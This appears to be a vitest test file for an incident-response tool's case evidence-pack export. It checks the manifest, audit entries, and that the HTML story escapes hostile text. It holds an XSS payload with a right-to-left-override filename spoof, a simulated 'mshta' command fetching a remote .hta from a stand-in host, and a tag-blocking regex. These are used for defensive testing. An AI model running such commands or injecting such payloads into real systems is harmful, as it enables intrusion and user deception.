import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { TextWriter, Uint8ArrayReader, ZipReader } from '@zip.js/zip.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Actor } from '../../access/can';
import { setEnvironment } from '../../base/testEnvironment';
import { readPack } from '../../cli/evidenceVerifyRead';
import { packAuditEntry, packManifest, packRecord } from '../../contracts/evidence';
import { checkPack } from '../../evidence/checkPack';
import { jsonOf, linesOf, type Pack, textOf } from '../../evidence/pack';
import { alertSubject, toAlertKey } from '../../storage/alertKey';
import { listAudit } from '../../storage/auditEntries';
import { closeStorage, pool, prisma } from '../../storage/client';
import { createTestDatabase, type TestDatabase } from '../../storage/testDatabase';
import { saveUpload } from '../../storage/uploads';
import { giveAlertVerdict } from '../decideAlert';
import { nodeDigest } from '../nodeDigest';
import { importWhole } from '../testImports';
import { toLines } from '../testRecords';
import { connection, file, query, quiet, start } from '../testSysmon';
import { caseEvidence } from './caseEvidence';

const ACTOR: Actor = { name: 'mia', role: 'manager' };
const HOSTILE = '<script>alert(1)</script> \u202egnp.exe';

let database: TestDatabase;
let folder: string;
let restore: () => void;
let pack: Pack;
let caseId: number;
/** The case's alert: on a host without a finding. */
let alerted: { readonly hostId: number; readonly eventId: string };

beforeAll(async () => {
  folder = await mkdtemp(path.join(os.tmpdir(), 'sequela-case-pack-'));
  database = await createTestDatabase();
  restore = setEnvironment({ DATABASE_URL: database.url });
  await importWhole(
    toLines([...chain('WS1'), ...chain('WS2'), ...quiet('WS3', '2026-11-20T08:00', 3)]),
    'three.json',
    folder,
  );
  caseId = await aCase();
  const { content } = await caseEvidence(String(caseId), { originals: 'false' }, ACTOR);
  const pieces: Uint8Array[] = [];
  for await (const piece of content) pieces.push(piece);
  await writeFile(path.join(folder, 'case.zip'), Buffer.concat(pieces));
  pack = await readPack(path.join(folder, 'case.zip'));
}, 120_000);
afterAll(async () => {
  await closeStorage();
  restore();
  await database.drop();
  await rm(folder, { recursive: true, force: true });
});

describe('the evidence pack of a case', () => {
  it('holds, with the findings of all its hosts', () => {
    const checks = checkPack(pack, nodeDigest);
    expect(checks.filter(({ ok }) => !ok)).toEqual([]);
    const manifest = jsonOf(pack, 'manifest.json', packManifest);
    expect(manifest.subject).toBe(`case:${caseId}`);
    expect(manifest.findings.map(({ host, recomputes }) => [host, recomputes]).sort()).toEqual([
      ['ws1', true],
      ['ws2', true],
    ]);
    for (const { id } of manifest.findings) expect(pack.files.has(`findings/${id}/story.pdf`)).toBe(true);
  });

  it('holds its alerts: what was decided about each, the trail of that, and their records', () => {
    const alerts = JSON.parse(textOf(pack, 'case/alerts.json')) as object[];
    expect(alerts).toEqual([
      expect.objectContaining({
        rule: HOSTILE,
        host: 'ws3',
        product: 'defender',
        verdict: 'false_positive',
        verdictReason: 'our own tool',
        verdictBy: 'mia',
        from: '2026-11-20T08:00:00.000000Z',
        events: [alerted.eventId],
        cut: false,
      }),
    ]);
    const records = linesOf(pack, 'records/index.ndjson', packRecord);
    const record = records.find(({ event }) => event === alerted.eventId);
    expect(record).toMatchObject({ host: 'ws3', why: 'alert', rereads: true });
    expect(textOf(pack, record?.file ?? '')).toContain('WS3');
    const subject = alertSubject(alerted.hostId, 'a-1');
    expect(linesOf(pack, 'audit.ndjson', packAuditEntry)).toContainEqual(
      expect.objectContaining({ subject, action: 'alert.verdict', by: 'mia' }),
    );
  });

  it('tells of its alerts to whoever opens it', async () => {
    expect(await unpacked('story.md')).toMatch(
      /on ws3; 2026-11-20T08:00:00.* Verdict: False positive by mia/,
    );
    expect(await unpacked('README.txt')).toContain('alerts.json');
  });

  it('holds what people wrote, those of a case merged into it too', () => {
    const [notes, comments, tasks] = ['notes', 'comments', 'tasks'].map((name) =>
      textOf(pack, `case/${name}.json`),
    );
    expect(notes).toContain('first thoughts');
    expect(notes).toContain('second thoughts');
    expect(comments).toContain('of the other case');
    expect(tasks).toContain('call the owner');
  });

  it('does not hold what people withdrew, but that they did', () => {
    const everything = [...pack.files.keys()]
      .filter((name) => name.startsWith('case/') && name.endsWith('.json'))
      .map((name) => textOf(pack, name))
      .join();
    expect(everything).not.toContain('taken back');
    expect(everything).toContain('"withdrawnBy": "ana"');
  });

  it('holds attached files byte for byte, and writes down that they left', async () => {
    const attachments = JSON.parse(textOf(pack, 'case/attachments.json')) as {
      id: number;
      sha256: string;
      file: string | null;
    }[];
    const [held] = attachments;
    expect(pack.files.get(held?.file ?? '')?.sha256).toBe(held?.sha256);
    const log = await listAudit({ subject: `case:${caseId}` }, { limit: 10 });
    expect(log.map(({ action }) => action)).toEqual(
      expect.arrayContaining(['evidence.exported', 'case.attachment_exported', 'evidence.sealed']),
    );
  });

  it('tells its story three times', () => {
    for (const name of ['story.html', 'story.md', 'story.pdf'])
      expect(pack.files.get(name)?.bytes).toBeGreaterThan(500);
  });

  it('tells it with what people wrote, as a page that runs nothing and loads nothing', async () => {
    const page = await unpacked('story.html');
    expect(page).not.toMatch(/<script|<img|<link|<iframe|<a |\b(src|href)=|url\(|@import/i);
    expect(page).toContain('<title>Case');
    expect(page).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
    // What would show the title in another order is told by its number.
    expect(page).not.toContain('\u202e');
    expect(page).toContain('second thoughts');
    expect(page).toContain('False positive by mia');
    for (const story of [await unpacked('story.md'), page]) expect(story).not.toContain('taken back');
  });

  it('is refused for a case that is not there', async () => {
    await expect(caseEvidence('999', { originals: 'false' }, ACTOR)).rejects.toMatchObject({
      code: 'not_found',
    });
  });
});

async function aCase(): Promise<number> {
  const { rows } = await pool().query<{ id: string }>('SELECT id FROM findings ORDER BY host_id');
  const database = prisma();
  const one = await database.case.create({ data: { title: HOSTILE, createdBy: 'ana', summary: HOSTILE } });
  const other = await database.case.create({
    data: { title: 'other', createdBy: 'ben', mergedInto: one.id },
  });
  const [first, second] = rows;
  alerted = await anAlert();
  await database.caseItem.createMany({
    data: [
      { kind: 'finding', ref: first?.id ?? '', caseId: one.id, addedBy: 'ana' },
      { kind: 'finding', ref: second?.id ?? '', caseId: other.id, addedBy: 'ben' },
      { kind: 'finding', ref: 'gone', caseId: one.id, addedBy: 'ana' },
      { kind: 'alert', ref: `${alerted.hostId}/a-1`, caseId: other.id, addedBy: 'ben' },
    ],
  });
  const note = await database.caseNote.create({
    data: { caseId: one.id, title: HOSTILE, version: 2, createdBy: 'ana' },
  });
  await database.caseNoteVersion.createMany({
    data: [
      { noteId: note.id, version: 1, title: '', body: 'first thoughts', by: 'ana' },
      { noteId: note.id, version: 2, title: HOSTILE, body: `second thoughts\n${HOSTILE}`, by: 'ana' },
    ],
  });
  const withdrawn = { withdrawnAt: new Date(), withdrawnBy: 'ana' };
  const gone = await database.caseNote.create({
    data: { caseId: one.id, title: 'taken back', createdBy: 'ana', ...withdrawn },
  });
  await database.caseNoteVersion.create({
    data: { noteId: gone.id, version: 1, title: 'taken back', body: 'taken back', by: 'ana' },
  });
  await database.caseComment.createMany({
    data: [
      { caseId: other.id, text: 'of the other case', by: 'ben' },
      { caseId: one.id, text: 'taken back', by: 'ana', withdrawnAt: new Date() },
    ],
  });
  await database.caseIndicator.create({
    data: {
      caseId: one.id,
      type: 'domain',
      value: 'taken back',
      note: 'taken back',
      by: 'ana',
      withdrawnAt: new Date(),
    },
  });
  await database.caseTask.create({ data: { caseId: one.id, text: 'call the owner', createdBy: 'ana' } });
  const bytes = Buffer.from('a memory dump');
  for (const [name, more] of [['dump.bin', {}] as const, ['old.bin', withdrawn] as const]) {
    const { uploadId } = await saveUpload(pieces(bytes), 1000);
    await database.caseAttachment.create({
      data: {
        caseId: one.id,
        name,
        mediaType: 'application/octet-stream',
        bytes: bytes.length,
        sha256: createHash('sha256').update(bytes).digest('hex'),
        uploadId,
        by: 'ana',
        ...more,
      },
    });
  }
  return one.id;
}

/** The text of a file of the pack, also of one that checking it does not keep. */
async function unpacked(name: string): Promise<string> {
  const bytes = new Uint8Array(await readFile(path.join(folder, 'case.zip')));
  const entries = await new ZipReader(new Uint8ArrayReader(bytes)).getEntries();
  const entry = entries.find(({ filename }) => filename === name);
  if (entry === undefined || entry.directory) throw new Error(`no ${name}`);
  return entry.getData(new TextWriter());
}

/** An alert on the first event of WS3, with a verdict. */
async function anAlert(): Promise<typeof alerted> {
  const { rows } = await pool().query<typeof alerted>(
    `INSERT INTO alerts (host_id, event_id, alert, rule, product, severity, time)
     SELECT e.host_id, e.id, 'a-1', $1, 'defender', 50, e.time FROM events e JOIN hosts h ON h.id = e.host_id
     WHERE h.name = 'ws3' ORDER BY e.time LIMIT 1 RETURNING host_id AS "hostId", event_id AS "eventId"`,
    [HOSTILE],
  );
  const [made] = rows;
  if (made === undefined) throw new Error('WS3 has no events');
  const given = { verdict: 'false_positive', reason: 'our own tool', revision: 0 } as const;
  await giveAlertVerdict(toAlertKey(made.hostId, 'a-1'), given, ACTOR);
  return made;
}

async function* pieces(bytes: Buffer): AsyncGenerator<Uint8Array> {
  yield bytes;
}

function chain(host: string) {
  return [
    ...quiet(host, '2026-11-20T08:00', 12),
    start(
      host,
      '2026-11-20T09:00:00',
      1,
      'C:\\Windows\\System32\\mshta.exe',
      `mshta https://cdn.example.net/${host}.hta`,
    ),
    query(host, '2026-11-20T09:00:01', 1, 'cdn.example.net', '198.51.100.7'),
    connection(host, '2026-11-20T09:00:02', 1, '198.51.100.7'),
    file(host, '2026-11-20T09:00:03', 1, 'C:\\Users\\anna\\AppData\\Local\\Temp\\run.js'),
    ...quiet(host, '2026-11-20T09:10', 12),
  ];
}
